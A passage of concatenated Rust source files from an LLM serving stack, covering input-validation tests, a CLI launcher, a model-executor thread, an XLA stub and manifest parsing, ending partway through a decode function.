            assert!(!valid_service_name(svc), "accepted {svc:?}");
        }
        for svc in ["llama3-70b", "qwen2-72b", "mixtral-8x7b", "meta.llama"] {
            assert!(valid_service_name(svc), "rejected {svc:?}");
        }
    }

    #[test]
    fn rejects_non_json_and_oversized_envelopes() {
        assert!(parse_op("saia request", b"not json").is_err());
        assert!(parse_op("saia request", &[0xFF, 0xFE]).is_err());
        let huge = vec![b'a'; MAX_ENVELOPE_BYTES + 1];
        assert!(matches!(
            parse_op("saia request", &huge),
            Err(Violation::EnvelopeTooLarge)
        ));
    }

    #[test]
    fn ping_and_probe_ignore_stdin() {
        assert_eq!(parse_op("saia ping", b"garbage").unwrap(), Op::Ping);
        assert_eq!(
            parse_op("saia probe", b"\xff\xff").unwrap(),
            Op::Probe { service: None }
        );
    }

    #[test]
    fn property_nasty_strings_never_parse_as_request() {
        use crate::util::propcheck;
        propcheck::quick("nasty command strings rejected or safe", |rng| {
            let s = propcheck::nasty_string(rng, 20);
            match parse_command(&s) {
                // If something parses it must be one of the three verbs with
                // fully validated fields — spot-check the service grammar.
                Ok(CommandVerb::Probe { service: Some(svc) }) => {
                    assert!(valid_service_name(&svc));
                }
                Ok(_) | Err(_) => {}
            }
        });
    }
}
