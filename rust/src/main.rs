//! `chat-ai` — launcher CLI for the Slurm-native LLM serving stack.
//!
//! ```text
//! chat-ai serve [--config FILE] [--production]   run the full stack
//! chat-ai adoption [--seed N]                     print Figs 3–5 series
//! chat-ai check                                   load artifacts + smoke test
//! ```

use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::{FederatedStack, Stack};
use chat_ai::util::http::Client;
use chat_ai::util::json::Json;
use chat_ai::util::logging;
use chat_ai::workload::adoption;

fn main() {
    logging::init_with_level(log::Level::Info);
    let args: Vec<String> = std::env::args().skip(1).collect();
    let cmd = args.first().map(String::as_str).unwrap_or("help");
    let result = match cmd {
        "serve" => serve(&args[1..]),
        "adoption" => adoption_cmd(&args[1..]),
        "check" => check(),
        _ => {
            eprintln!(
                "usage: chat-ai <serve|adoption|check>\n\
                 \n\
                 serve [--config FILE] [--production] [--federated]\n\
                 \x20                                     run the full stack until Ctrl-C\n\
                 adoption [--seed N]                   print the Fig 3–5 day series as CSV\n\
                 check                                 load artifacts and run a smoke chat"
            );
            Ok(())
        }
    };
    if let Err(e) = result {
        eprintln!("error: {e:#}");
        std::process::exit(1);
    }
}

fn flag_value<'a>(args: &'a [String], name: &str) -> Option<&'a str> {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
        .map(String::as_str)
}

fn serve(args: &[String]) -> anyhow::Result<()> {
    let config = if let Some(path) = flag_value(args, "--config") {
        StackConfig::from_ini(&std::fs::read_to_string(path)?)?
    } else if args.iter().any(|a| a == "--production") {
        StackConfig::production_like()
    } else if args.iter().any(|a| a == "--federated") {
        StackConfig::federated_demo()
    } else {
        StackConfig::demo()
    };
    // `[cluster.*]` sections (or --federated) select the multi-cluster
    // bring-up; otherwise the paper's single-cluster shape.
    if !config.clusters.is_empty() {
        println!(
            "launching federated stack: {} services across {} clusters",
            config.services.len(),
            config.clusters.len()
        );
        let stack = FederatedStack::launch(config)?;
        println!("  auth proxy : {}", stack.auth_url());
        println!("  gateway    : {}", stack.gateway_url());
        println!("  router     : {}/federation/status", stack.router_url());
        println!("  monitoring : {}/metrics", stack.monitoring_server.url());
        print!("waiting for instances ... ");
        if stack.wait_ready(Duration::from_secs(120)) {
            println!("ready");
        } else {
            println!("timeout (still warming)");
        }
        println!("serving; Ctrl-C to stop");
        loop {
            std::thread::sleep(Duration::from_secs(3600));
        }
    }
    println!(
        "launching stack: {} services on {} GPU nodes",
        config.services.len(),
        config.gpu_nodes
    );
    let stack = Stack::launch(config)?;
    println!("  auth proxy : {}", stack.auth_url());
    println!("  gateway    : {}", stack.gateway_url());
    println!("  monitoring : {}/metrics", stack.monitoring_server.url());
    print!("waiting for instances ... ");
    if stack.wait_ready(Duration::from_secs(120)) {
        println!("ready");
    } else {
        println!("timeout (still warming)");
    }
    println!("serving; Ctrl-C to stop");
    loop {
        std::thread::sleep(Duration::from_secs(3600));
    }
}

fn adoption_cmd(args: &[String]) -> anyhow::Result<()> {
    let seed = flag_value(args, "--seed")
        .and_then(|v| v.parse().ok())
        .unwrap_or(2024);
    let days = adoption::simulate(&adoption::AdoptionParams::default(), seed);
    println!(
        "day,weekday,holiday,new_users,returning,total_users,req_internal,req_external,api_req"
    );
    for d in &days {
        println!(
            "{},{},{},{},{},{},{},{},{}",
            d.day,
            d.weekday,
            d.is_holiday as u8,
            d.new_users,
            d.returning_users,
            d.total_users,
            d.requests_internal,
            d.requests_external,
            d.api_requests
        );
    }
    Ok(())
}

fn check() -> anyhow::Result<()> {
    println!("launching demo stack ...");
    let stack = Stack::launch(StackConfig::demo())?;
    anyhow::ensure!(
        stack.wait_ready(Duration::from_secs(120)),
        "instances never became ready"
    );
    let svc = stack.config.services[0].name.clone();
    stack.gateway.add_api_key("smoke", "smoke-test");
    let mut client = Client::new(&stack.gateway_url());
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "Hello!")],
        )
        .set("max_tokens", 16u64);
    let req = chat_ai::util::http::Request::new("POST", &format!("/{svc}/v1/chat/completions"))
        .with_header("x-api-key", "smoke")
        .with_body(body.to_string().into_bytes());
    let resp = client.send(&req)?;
    anyhow::ensure!(
        resp.status == 200,
        "chat failed: {} {}",
        resp.status,
        resp.body_str()
    );
    println!("chat ok: {}", resp.body_str());
    stack.shutdown();
    println!("check passed");
    Ok(())
}
