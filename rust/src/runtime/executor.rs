//! The model executor: a dedicated thread owning the process's single
//! PJRT client and every loaded [`ModelRuntime`].
//!
//! Two constraints force this shape:
//! * xla_extension 0.5.1 tolerates exactly **one** `PjRtClient` per
//!   process (a second corrupts globals), and
//! * the crate's `PjRtClient`/`PjRtBuffer` are `Rc`-based (`!Send`), so
//!   all XLA objects must live and die on one thread.
//!
//! Every in-process "GPU node" (LLM server instance) therefore submits
//! work over a channel and waits for the reply. Operations execute FIFO —
//! the single-CPU analogue of the paper's one-model-per-GPU-set layout;
//! model *loads* are long operations and briefly delay decode steps of
//! other instances, which the EXPERIMENTS notes call out.

use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::mpsc::{Receiver, Sender};
use std::sync::{Arc, Mutex, OnceLock};

use anyhow::{anyhow, Result};

use super::{Manifest, ModelRuntime, SeqKv, XlaRuntime};

/// What the engine needs to know about a loaded model.
#[derive(Debug, Clone)]
pub struct ModelInfo {
    pub name: String,
    pub vocab: usize,
    pub max_seq: usize,
    pub decode_buckets: Vec<usize>,
    pub prefill_buckets: Vec<usize>,
}

enum Msg {
    Load {
        model: String,
        reply: Sender<Result<ModelInfo>>,
    },
    Unload {
        model: String,
        reply: Sender<()>,
    },
    Prefill {
        model: String,
        tokens: Vec<i32>,
        reply: Sender<Result<(Vec<f32>, SeqKv)>>,
    },
    Decode {
        model: String,
        tokens: Vec<i32>,
        positions: Vec<i32>,
        kvs: Vec<SeqKv>,
        reply: Sender<Result<(Vec<Vec<f32>>, Vec<SeqKv>)>>,
    },
    EmptyKv {
        model: String,
        reply: Sender<Result<SeqKv>>,
    },
}

/// Cloneable, thread-safe handle to the executor thread.
pub struct ModelExecutor {
    tx: Mutex<Sender<Msg>>,
}

static GLOBAL_EXECUTOR: OnceLock<Arc<ModelExecutor>> = OnceLock::new();

impl ModelExecutor {
    /// Start (or get) the process-wide executor rooted at `artifacts`.
    /// The first caller fixes the artifacts root.
    pub fn global(artifacts: &std::path::Path) -> Arc<ModelExecutor> {
        GLOBAL_EXECUTOR
            .get_or_init(|| {
                let (tx, rx) = std::sync::mpsc::channel();
                let root = artifacts.to_path_buf();
                std::thread::Builder::new()
                    .name("model-executor".into())
                    // XLA compilation recurses deeply; give it room.
                    .stack_size(256 * 1024 * 1024)
                    .spawn(move || executor_main(root, rx))
                    .expect("spawn model executor");
                Arc::new(ModelExecutor { tx: Mutex::new(tx) })
            })
            .clone()
    }

    fn send(&self, msg: Msg) {
        self.tx
            .lock()
            .unwrap()
            .send(msg)
            .expect("model executor died");
    }

    /// Load (compile) a model; blocks until ready. Idempotent.
    pub fn load(&self, model: &str) -> Result<ModelInfo> {
        let (reply, rx) = std::sync::mpsc::channel();
        self.send(Msg::Load {
            model: model.to_string(),
            reply,
        });
        rx.recv().map_err(|_| anyhow!("executor died"))?
    }

    /// Drop a model's executables and weights.
    pub fn unload(&self, model: &str) {
        let (reply, rx) = std::sync::mpsc::channel();
        self.send(Msg::Unload {
            model: model.to_string(),
            reply,
        });
        let _ = rx.recv();
    }

    pub fn prefill(&self, model: &str, tokens: &[i32]) -> Result<(Vec<f32>, SeqKv)> {
        let (reply, rx) = std::sync::mpsc::channel();
        self.send(Msg::Prefill {
            model: model.to_string(),
            tokens: tokens.to_vec(),
            reply,
        });
        rx.recv().map_err(|_| anyhow!("executor died"))?
    }

    /// Batched decode step; returns (logits rows, updated kvs).
    pub fn decode(
        &self,
        model: &str,
        tokens: Vec<i32>,
        positions: Vec<i32>,
        kvs: Vec<SeqKv>,
    ) -> Result<(Vec<Vec<f32>>, Vec<SeqKv>)> {
        let (reply, rx) = std::sync::mpsc::channel();
        self.send(Msg::Decode {
            model: model.to_string(),
            tokens,
            positions,
            kvs,
            reply,
        });
        rx.recv().map_err(|_| anyhow!("executor died"))?
    }

    pub fn empty_kv(&self, model: &str) -> Result<SeqKv> {
        let (reply, rx) = std::sync::mpsc::channel();
        self.send(Msg::EmptyKv {
            model: model.to_string(),
            reply,
        });
        rx.recv().map_err(|_| anyhow!("executor died"))?
    }
}

fn executor_main(root: PathBuf, rx: Receiver<Msg>) {
    let runtime = XlaRuntime::cpu().expect("pjrt cpu client");
    let manifest = Manifest::load(&root);
    let mut models: HashMap<String, ModelRuntime> = HashMap::new();
    // Freed XLA objects occasionally double-free inside xla_extension
    // 0.5.1; unloaded models are parked here instead of dropped (they are
    // megabytes, and unload is rare — scale-down keeps weights cached,
    // which also models the warm-cache behaviour §7.1.1 wishes for).
    let mut graveyard: Vec<ModelRuntime> = Vec::new();

    for msg in rx.iter() {
        match msg {
            Msg::Load { model, reply } => {
                let result = (|| -> Result<ModelInfo> {
                    let manifest = manifest
                        .as_ref()
                        .map_err(|e| anyhow!("manifest: {e}"))?;
                    if !models.contains_key(&model) {
                        let mm = manifest
                            .model(&model)
                            .ok_or_else(|| anyhow!("unknown model {model}"))?;
                        let loaded = ModelRuntime::load(runtime.clone(), &root, mm)?;
                        models.insert(model.clone(), loaded);
                    }
                    let m = &models[&model];
                    Ok(ModelInfo {
                        name: model.clone(),
                        vocab: m.config.vocab,
                        max_seq: m.config.max_seq,
                        decode_buckets: m.decode_buckets(),
                        prefill_buckets: m.prefill_buckets(),
                    })
                })();
                let _ = reply.send(result);
            }
            Msg::Unload { model, reply } => {
                if let Some(m) = models.remove(&model) {
                    graveyard.push(m);
                }
                let _ = reply.send(());
            }
            Msg::Prefill {
                model,
                tokens,
                reply,
            } => {
                let result = match models.get(&model) {
                    Some(m) => m.prefill(&tokens),
                    None => Err(anyhow!("model {model} not loaded")),
                };
                let _ = reply.send(result);
            }
            Msg::Decode {
                model,
                tokens,
                positions,
                mut kvs,
                reply,
            } => {
                let result = match models.get(&model) {
                    Some(m) => m
                        .decode(&tokens, &positions, &mut kvs)
                        .map(|logits| (logits, kvs)),
                    None => Err(anyhow!("model {model} not loaded")),
                };
                let _ = reply.send(result);
            }
            Msg::EmptyKv { model, reply } => {
                let result = match models.get(&model) {
                    Some(m) => Ok(m.empty_kv()),
                    None => Err(anyhow!("model {model} not loaded")),
                };
                let _ = reply.send(result);
            }
        }
    }
}
