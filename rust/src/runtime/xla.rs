//! Offline stand-in for the `xla` PJRT binding crate (xla_extension).
//!
//! The real binding needs the native `xla_extension` library, which is not
//! available in every build environment (offline registries, CI). This
//! module mirrors the exact API surface `runtime` uses so the crate builds
//! and the serving stack runs everywhere; loading an HLO artifact through
//! the stub fails with a clear error, and callers (the instance launcher)
//! surface that as a failed model load. Deployments with real artifacts
//! swap this module for the actual binding crate — the consuming code in
//! `runtime/mod.rs` is unchanged either way.
//!
//! Analytic-profile models (`llm::SimBackend`) never touch this path, so
//! the full Figure-1/federation stack is exercisable without PJRT.

use std::fmt;

/// Error type mirroring the binding crate's (Display-able, boxable).
#[derive(Debug)]
pub struct XlaError(pub String);

impl fmt::Display for XlaError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::error::Error for XlaError {}

const STUB_MSG: &str =
    "PJRT unavailable (stub runtime): HLO artifacts cannot be compiled; \
     use an analytic profile model or link the real xla binding";

/// Element types the runtime uploads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ElementType {
    F32,
    S32,
}

/// Host tensor: shape + raw little-endian bytes.
#[derive(Clone)]
pub struct Literal {
    elem: ElementType,
    dims: Vec<usize>,
    bytes: Vec<u8>,
}

impl Literal {
    pub fn create_from_shape_and_untyped_data(
        elem: ElementType,
        dims: &[usize],
        bytes: &[u8],
    ) -> Result<Literal, XlaError> {
        let numel: usize = dims.iter().product();
        if numel * 4 != bytes.len() {
            return Err(XlaError(format!(
                "shape {:?} needs {} bytes, got {}",
                dims,
                numel * 4,
                bytes.len()
            )));
        }
        Ok(Literal {
            elem,
            dims: dims.to_vec(),
            bytes: bytes.to_vec(),
        })
    }

    /// Destructure a 2-tuple result. Stub literals are never tuples (no
    /// computation can produce one), so this always errors.
    pub fn to_tuple2(self) -> Result<(Literal, Literal), XlaError> {
        Err(XlaError(STUB_MSG.to_string()))
    }

    pub fn to_vec<T: NativeType>(&self) -> Result<Vec<T>, XlaError> {
        if T::ELEMENT != self.elem {
            return Err(XlaError(format!(
                "element type mismatch: literal is {:?}",
                self.elem
            )));
        }
        Ok(self
            .bytes
            .chunks_exact(4)
            .map(|b| T::from_le(b.try_into().expect("4-byte chunk")))
            .collect())
    }

    pub fn dims(&self) -> &[usize] {
        &self.dims
    }
}

/// Native scalar types readable out of a [`Literal`].
pub trait NativeType: Sized {
    const ELEMENT: ElementType;
    fn from_le(bytes: [u8; 4]) -> Self;
}

impl NativeType for f32 {
    const ELEMENT: ElementType = ElementType::F32;
    fn from_le(bytes: [u8; 4]) -> f32 {
        f32::from_le_bytes(bytes)
    }
}

impl NativeType for i32 {
    const ELEMENT: ElementType = ElementType::S32;
    fn from_le(bytes: [u8; 4]) -> i32 {
        i32::from_le_bytes(bytes)
    }
}

/// Parsed HLO module. The stub cannot parse HLO text.
pub struct HloModuleProto;

impl HloModuleProto {
    pub fn from_text_file(_path: &str) -> Result<HloModuleProto, XlaError> {
        Err(XlaError(STUB_MSG.to_string()))
    }
}

pub struct XlaComputation;

impl XlaComputation {
    pub fn from_proto(_proto: &HloModuleProto) -> XlaComputation {
        XlaComputation
    }
}

/// Device buffer — in the stub, just the host literal.
pub struct PjRtBuffer {
    lit: Literal,
}

impl PjRtBuffer {
    pub fn to_literal_sync(&self) -> Result<Literal, XlaError> {
        Ok(self.lit.clone())
    }
}

pub struct PjRtLoadedExecutable;

impl PjRtLoadedExecutable {
    pub fn execute_b(&self, _args: &[&PjRtBuffer]) -> Result<Vec<Vec<PjRtBuffer>>, XlaError> {
        Err(XlaError(STUB_MSG.to_string()))
    }
}

/// Process-wide client handle.
pub struct PjRtClient;

impl PjRtClient {
    pub fn cpu() -> Result<PjRtClient, XlaError> {
        Ok(PjRtClient)
    }

    pub fn platform_name(&self) -> String {
        "stub-cpu (PJRT not linked)".to_string()
    }

    pub fn buffer_from_host_literal(
        &self,
        _device: Option<usize>,
        lit: &Literal,
    ) -> Result<PjRtBuffer, XlaError> {
        Ok(PjRtBuffer { lit: lit.clone() })
    }

    pub fn compile(&self, _comp: &XlaComputation) -> Result<PjRtLoadedExecutable, XlaError> {
        Err(XlaError(STUB_MSG.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_roundtrip_and_shape_check() {
        let data: Vec<u8> = [1.0f32, 2.0, 3.0, 4.0]
            .iter()
            .flat_map(|v| v.to_le_bytes())
            .collect();
        let lit =
            Literal::create_from_shape_and_untyped_data(ElementType::F32, &[2, 2], &data).unwrap();
        assert_eq!(lit.dims(), &[2, 2]);
        assert_eq!(lit.to_vec::<f32>().unwrap(), vec![1.0, 2.0, 3.0, 4.0]);
        assert!(lit.to_vec::<i32>().is_err(), "element type enforced");
        assert!(
            Literal::create_from_shape_and_untyped_data(ElementType::F32, &[3], &data).is_err(),
            "size mismatch rejected"
        );
    }

    #[test]
    fn stub_paths_error_cleanly() {
        assert!(HloModuleProto::from_text_file("x.hlo").is_err());
        let client = PjRtClient::cpu().unwrap();
        assert!(client.compile(&XlaComputation).is_err());
        assert!(client.platform_name().contains("stub"));
    }
}
