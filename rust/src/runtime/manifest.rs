//! Parsing of `artifacts/manifest.json` (written by `python/compile/aot.py`).

use std::path::Path;

use anyhow::{anyhow, Context, Result};

use crate::util::json::Json;

/// Model hyperparameters (must mirror `python/compile/model.py`).
#[derive(Debug, Clone, PartialEq)]
pub struct ModelConfig {
    pub name: String,
    pub vocab: usize,
    pub d_model: usize,
    pub n_layers: usize,
    pub n_heads: usize,
    pub d_head: usize,
    pub d_ff: usize,
    pub max_seq: usize,
}

/// One weight tensor in `params.bin`.
#[derive(Debug, Clone)]
pub struct ParamEntry {
    pub name: String,
    pub shape: Vec<u64>,
    /// Offset in f32 elements.
    pub offset: usize,
    pub numel: usize,
}

/// One HLO artifact (decode or prefill bucket).
#[derive(Debug, Clone)]
pub struct ArtifactSpec {
    pub kind: String,
    pub batch: usize,
    pub seq_bucket: Option<usize>,
    pub file: String,
}

/// Everything needed to load one model.
#[derive(Debug, Clone)]
pub struct ModelManifest {
    pub dir: String,
    pub config: ModelConfig,
    pub params_file: String,
    pub params: Vec<ParamEntry>,
    pub total_numel: usize,
    pub artifacts: Vec<ArtifactSpec>,
}

/// The whole manifest.
#[derive(Debug, Clone)]
pub struct Manifest {
    pub models: Vec<ModelManifest>,
}

impl Manifest {
    pub fn load(artifacts_root: &Path) -> Result<Manifest> {
        let path = artifacts_root.join("manifest.json");
        let text = std::fs::read_to_string(&path)
            .with_context(|| format!("reading {} (run `make artifacts`)", path.display()))?;
        let v = crate::util::json::parse(&text).map_err(|e| anyhow!("manifest: {e}"))?;
        Self::from_json(&v)
    }

    pub fn from_json(v: &Json) -> Result<Manifest> {
        let models_obj = v
            .get("models")
            .ok_or_else(|| anyhow!("manifest missing 'models'"))?;
        let Json::Obj(entries) = models_obj else {
            return Err(anyhow!("'models' must be an object"));
        };
        let mut models = Vec::new();
        for (_, m) in entries {
            models.push(parse_model(m)?);
        }
        Ok(Manifest { models })
    }

    pub fn model(&self, name: &str) -> Option<&ModelManifest> {
        self.models.iter().find(|m| m.config.name == name)
    }
}

fn parse_model(m: &Json) -> Result<ModelManifest> {
    let cfg = m.get("config").ok_or_else(|| anyhow!("missing config"))?;
    let field = |k: &str| -> Result<usize> {
        cfg.u64_field(k)
            .map(|v| v as usize)
            .ok_or_else(|| anyhow!("config missing {k}"))
    };
    let config = ModelConfig {
        name: cfg
            .str_field("name")
            .ok_or_else(|| anyhow!("config missing name"))?
            .to_string(),
        vocab: field("vocab")?,
        d_model: field("d_model")?,
        n_layers: field("n_layers")?,
        n_heads: field("n_heads")?,
        d_head: field("d_head")?,
        d_ff: field("d_ff")?,
        max_seq: field("max_seq")?,
    };

    let params_obj = m.get("params").ok_or_else(|| anyhow!("missing params"))?;
    let mut params = Vec::new();
    for e in params_obj
        .get("entries")
        .and_then(Json::as_arr)
        .ok_or_else(|| anyhow!("missing params.entries"))?
    {
        params.push(ParamEntry {
            name: e
                .str_field("name")
                .ok_or_else(|| anyhow!("param missing name"))?
                .to_string(),
            shape: e
                .get("shape")
                .and_then(Json::as_arr)
                .ok_or_else(|| anyhow!("param missing shape"))?
                .iter()
                .filter_map(Json::as_u64)
                .collect(),
            offset: e
                .u64_field("offset")
                .ok_or_else(|| anyhow!("param missing offset"))? as usize,
            numel: e
                .u64_field("numel")
                .ok_or_else(|| anyhow!("param missing numel"))? as usize,
        });
    }

    let mut artifacts = Vec::new();
    for a in m
        .get("artifacts")
        .and_then(Json::as_arr)
        .ok_or_else(|| anyhow!("missing artifacts"))?
    {
        artifacts.push(ArtifactSpec {
            kind: a
                .str_field("kind")
                .ok_or_else(|| anyhow!("artifact missing kind"))?
                .to_string(),
            batch: a.u64_field("batch").unwrap_or(1) as usize,
            seq_bucket: a.u64_field("seq_bucket").map(|v| v as usize),
            file: a
                .str_field("file")
                .ok_or_else(|| anyhow!("artifact missing file"))?
                .to_string(),
        });
    }

    Ok(ModelManifest {
        dir: m
            .str_field("dir")
            .ok_or_else(|| anyhow!("missing dir"))?
            .to_string(),
        config,
        params_file: params_obj
            .str_field("file")
            .ok_or_else(|| anyhow!("missing params.file"))?
            .to_string(),
        total_numel: params_obj
            .u64_field("total_numel")
            .ok_or_else(|| anyhow!("missing total_numel"))? as usize,
        params,
        artifacts,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"{
      "models": {
        "tiny": {
          "dir": "tiny",
          "config": {"name":"tiny","vocab":512,"d_model":64,"n_layers":2,
                     "n_heads":2,"d_head":32,"d_ff":128,"max_seq":64},
          "seed": 0,
          "params": {"file":"params.bin","total_numel":100,
                     "entries":[{"name":"embed","shape":[512,64],
                                 "offset":0,"numel":100}]},
          "artifacts": [
            {"kind":"decode","batch":1,"file":"decode_b1.hlo.txt"},
            {"kind":"prefill","batch":1,"seq_bucket":32,"file":"prefill_s32.hlo.txt"}
          ]
        }
      }
    }"#;

    #[test]
    fn parses_sample() {
        let v = crate::util::json::parse(SAMPLE).unwrap();
        let m = Manifest::from_json(&v).unwrap();
        assert_eq!(m.models.len(), 1);
        let model = m.model("tiny").unwrap();
        assert_eq!(model.config.d_model, 64);
        assert_eq!(model.params[0].name, "embed");
        assert_eq!(model.artifacts.len(), 2);
        assert_eq!(model.artifacts[1].seq_bucket, Some(32));
        assert!(m.model("nonexistent").is_none());
    }

    #[test]
    fn real_manifest_parses_if_built() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("artifacts");
        if !root.join("manifest.json").exists() {
            return; // artifacts not built in this checkout
        }
        let m = Manifest::load(&root).unwrap();
        assert!(m.model("tiny").is_some());
        assert!(m.model("small-chat").is_some());
        let tiny = m.model("tiny").unwrap();
        let n: usize = tiny.params.iter().map(|p| p.numel).sum();
        assert_eq!(n, tiny.total_numel);
    }

    #[test]
    fn rejects_malformed() {
        let v = crate::util::json::parse(r#"{"nope": 1}"#).unwrap();
        assert!(Manifest::from_json(&v).is_err());
    }
}
