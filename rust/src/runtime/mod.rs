//! PJRT runtime: loads the AOT artifacts (`make artifacts`) and executes
//! them on the CPU PJRT client. This is the only place rust touches XLA;
//! everything above it (the LLM engine, the coordinator) sees plain
//! `Vec<f32>` tensors.
//!
//! Interchange is **HLO text** (see `python/compile/aot.py` and
//! /opt/xla-example/README.md): `HloModuleProto::from_text_file` →
//! `XlaComputation::from_proto` → `client.compile`.
//!
//! Weights are uploaded once as device buffers and shared across every
//! call (`execute_b`); per-step tensors (tokens, positions, KV) travel as
//! literals. Compiling all bucket variants at load time is the *model
//! load* cost the paper talks about (minutes for a 70B on H100s; seconds
//! here) — the scheduler's readiness probes gate routing on it.

mod executor;
mod kv;
mod manifest;
/// PJRT binding: the offline stub by default (see its module docs). Swap
/// for the real `xla` crate in environments with the native library.
mod xla;

pub use executor::{ModelExecutor, ModelInfo};
pub use kv::{assemble_kv, scatter_kv, SeqKv};
pub use manifest::{ArtifactSpec, Manifest, ModelConfig, ModelManifest, ParamEntry};

use std::collections::HashMap;
use std::path::Path;
use std::sync::Arc;

use anyhow::{anyhow, bail, Context, Result};

/// Shared PJRT client (one per process).
pub struct XlaRuntime {
    client: xla::PjRtClient,
}

impl XlaRuntime {
    /// Create the PJRT CPU client. A process must create exactly **one**
    /// client (xla_extension 0.5.1 corrupts global state on the second —
    /// observed as `pointer_size > 0 (0 vs. -1)` aborts), and the crate's
    /// client is `Rc`-based (`!Send`); use [`super::ModelExecutor`] from
    /// anywhere outside the executor thread.
    pub fn cpu() -> Result<Arc<XlaRuntime>> {
        Ok(Arc::new(XlaRuntime {
            client: xla::PjRtClient::cpu().map_err(|e| anyhow!("pjrt: {e}"))?,
        }))
    }

    pub fn platform(&self) -> String {
        self.client.platform_name()
    }
}

/// One loaded model: compiled executables per bucket + weight buffers.
pub struct ModelRuntime {
    pub config: ModelConfig,
    runtime: Arc<XlaRuntime>,
    /// Weights as device buffers, in `param_spec` order.
    param_buffers: Vec<xla::PjRtBuffer>,
    /// Host literals backing `param_buffers`: BufferFromHostLiteral is
    /// asynchronous on the TFRT CPU client, so the source memory must
    /// stay alive as long as the buffers may be (re)read.
    _param_literals: Vec<xla::Literal>,
    /// Decode executables keyed by batch bucket.
    decode: HashMap<usize, xla::PjRtLoadedExecutable>,
    /// Prefill executables keyed by sequence bucket.
    prefill: HashMap<usize, xla::PjRtLoadedExecutable>,
}

impl ModelRuntime {
    /// Load weights and compile all bucket executables for one model.
    pub fn load(
        runtime: Arc<XlaRuntime>,
        artifacts_root: &Path,
        manifest: &ModelManifest,
    ) -> Result<ModelRuntime> {
        let dir = artifacts_root.join(&manifest.dir);
        let config = manifest.config.clone();

        // ---- weights --------------------------------------------------
        let blob = std::fs::read(dir.join(&manifest.params_file))
            .with_context(|| format!("reading {}", manifest.params_file))?;
        if blob.len() != manifest.total_numel * 4 {
            bail!(
                "params.bin size mismatch: {} bytes, expected {}",
                blob.len(),
                manifest.total_numel * 4
            );
        }
        let mut param_buffers = Vec::with_capacity(manifest.params.len());
        let mut param_literals = Vec::with_capacity(manifest.params.len());
        for entry in &manifest.params {
            let start = entry.offset * 4;
            let end = start + entry.numel * 4;
            let dims: Vec<usize> = entry.shape.iter().map(|&d| d as usize).collect();
            let lit = xla::Literal::create_from_shape_and_untyped_data(
                xla::ElementType::F32,
                &dims,
                &blob[start..end],
            )
            .map_err(|e| anyhow!("literal {}: {e}", entry.name))?;
            let buf = runtime
                .client
                .buffer_from_host_literal(None, &lit)
                .map_err(|e| anyhow!("upload {}: {e}", entry.name))?;
            param_buffers.push(buf);
            param_literals.push(lit);
        }

        // ---- executables -------------------------------------------------
        let mut decode = HashMap::new();
        let mut prefill = HashMap::new();
        for art in &manifest.artifacts {
            let path = dir.join(&art.file);
            let proto = xla::HloModuleProto::from_text_file(
                path.to_str().ok_or_else(|| anyhow!("bad path"))?,
            )
            .map_err(|e| anyhow!("parse {}: {e}", art.file))?;
            let comp = xla::XlaComputation::from_proto(&proto);
            let exe = runtime
                .client
                .compile(&comp)
                .map_err(|e| anyhow!("compile {}: {e}", art.file))?;
            match art.kind.as_str() {
                "decode" => {
                    decode.insert(art.batch, exe);
                }
                "prefill" => {
                    prefill.insert(art.seq_bucket.unwrap_or(0), exe);
                }
                other => bail!("unknown artifact kind {other}"),
            }
        }

        Ok(ModelRuntime {
            config,
            runtime,
            param_buffers,
            _param_literals: param_literals,
            decode,
            prefill,
        })
    }

    /// Available decode batch buckets, ascending.
    pub fn decode_buckets(&self) -> Vec<usize> {
        let mut v: Vec<usize> = self.decode.keys().copied().collect();
        v.sort();
        v
    }

    /// Available prefill sequence buckets, ascending.
    pub fn prefill_buckets(&self) -> Vec<usize> {
        let mut v: Vec<usize> = self.prefill.keys().copied().collect();
        v.sort();
        v
    }

    /// Smallest bucket ≥ n (or the largest if none fits).
    pub fn pick_bucket(buckets: &[usize], n: usize) -> usize {
        buckets
            .iter()
            .copied()
            .find(|&b| b >= n)
            .unwrap_or_else(|| *buckets.last().expect("no buckets"))
    }

    /// Fresh zeroed per-sequence cache.
    pub fn empty_kv(&self) -> SeqKv {
        SeqKv::zeroed(&self.config)
    }

    /// Prefill one prompt. Returns (logits row, per-sequence KV).
    pub fn prefill(&self, tokens: &[i32]) -> Result<(Vec<f32>, SeqKv)> {
        if tokens.is_empty() {
            bail!("empty prompt");
        }
        let buckets = self.prefill_buckets();
        let bucket = Self::pick_bucket(&buckets, tokens.len());
        let exe = &self.prefill[&bucket];
        let n = tokens.len().min(bucket);
        let mut padded = vec![0i32; bucket];
        padded[..n].copy_from_slice(&tokens[..n]);

        // Literals must outlive execute_b: the host→device copy is async.
        let tok_lit = literal_i32(&padded, &[1, bucket])?;
        let len_lit = literal_i32(&[n as i32], &[1])?;
        let tok_buf = self.upload(&tok_lit)?;
        let len_buf = self.upload(&len_lit)?;

        let mut args: Vec<&xla::PjRtBuffer> = self.param_buffers.iter().collect();
        args.push(&tok_buf);
        args.push(&len_buf);
        let result = exe
            .execute_b(&args)
            .map_err(|e| anyhow!("prefill exec: {e}"))?;
        // `to_literal_sync` blocks until the computation finished; only
        // then may the input literals be freed (uploads are async).
        let tuple = result[0][0]
            .to_literal_sync()
            .map_err(|e| anyhow!("prefill readback: {e}"))?;
        drop((tok_lit, len_lit));
        let (logits, kv) = untuple2(tuple)?;
        Ok((to_f32(&logits)?, SeqKv { data: to_f32(&kv)? }))
    }

    /// One batched decode step. `tokens[i]` continues sequence i at
    /// `positions[i]`; updated KV is written back into `kvs`. Returns a
    /// logits row per sequence.
    pub fn decode(
        &self,
        tokens: &[i32],
        positions: &[i32],
        kvs: &mut [SeqKv],
    ) -> Result<Vec<Vec<f32>>> {
        let b = tokens.len();
        assert_eq!(b, positions.len());
        assert_eq!(b, kvs.len());
        if b == 0 {
            return Ok(Vec::new());
        }
        let buckets = self.decode_buckets();
        let bucket = Self::pick_bucket(&buckets, b);
        if b > bucket {
